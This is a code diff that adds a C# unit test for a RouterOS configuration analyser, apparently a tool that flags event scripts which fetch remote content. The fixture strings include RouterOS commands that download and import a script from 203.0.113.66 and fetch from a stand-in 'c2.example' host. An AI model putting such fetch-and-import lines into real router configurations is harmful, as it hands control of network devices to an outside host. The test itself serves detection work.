@@ -201,6 +201,31 @@ public sealed class RouterOsFactsTests
     }
 
     [TestMethod]
+    public void EventScripts_OnlySetOnesOfEnabledEntries_WithWhatTheyFetch()
+    {
+        var facts = new RouterOsFactBuffer();
+        var sources = RouterOsTaskFacts.FromScripts(Parse(
+            "[{\"name\":\"sys-update\",\"source\":\"/tool fetch url=\\\"http://203.0.113.66/u.rsc\\\"; /import u.rsc\"}]"), facts, out var problem);
+        Assert.IsNotNull(sources, problem);
+        var fetches = new System.Collections.ArrayList();
+        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse(
+            "[{\"name\":\"default\",\"on-up\":\"\",\"on-down\":\"\"},{\"name\":\"vpn\",\"on-up\":\"\",\"on-down\":\"/system script run sys-update\"}]"),
+            "ppp-profile", "name", "on-up", "on-down", sources, facts, fetches));
+        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse(
+            "[{\"name\":\"defconf\",\"lease-script\":\":log info $leaseActIP\",\"disabled\":\"false\"},{\"name\":\"guest\",\"lease-script\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"true\"}]"),
+            "dhcp-server", "name", "lease-script", null, sources, facts, fetches));
+        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse("[{\"interface\":\"ether1\",\"disabled\":\"false\"}]"),
+            "dhcp-client", "interface", "script", null, sources, facts, fetches), "a client without a script gives nothing");
+        StringAssert.Contains(RouterOsTaskFacts.FromEventScripts(Parse("[{\"interface\":\"\",\"script\":\":log info x\"}]"),
+            "dhcp-client", "interface", "script", null, sources, facts, fetches), "has no interface");
+        RouterOsTaskFacts.AddFetches(fetches, null, facts);
+        var result = Facts(facts);
+        CollectionAssert.AreEquivalent(new[] { "cfg.script.sys-update", "cfg.event.ppp-profile.vpn", "cfg.event.ppp-profile.vpn.fetch", "cfg.event.dhcp-server.defconf" },
+            result.Keys.ToArray());
+        Assert.AreEqual("203.0.113.66", result["cfg.event.ppp-profile.vpn.fetch"], "through the script the on-down runs");
+    }
+
+    [TestMethod]
     public void Proxies_OnlyWhileEnabled()
     {
         var facts = new RouterOsFactBuffer();
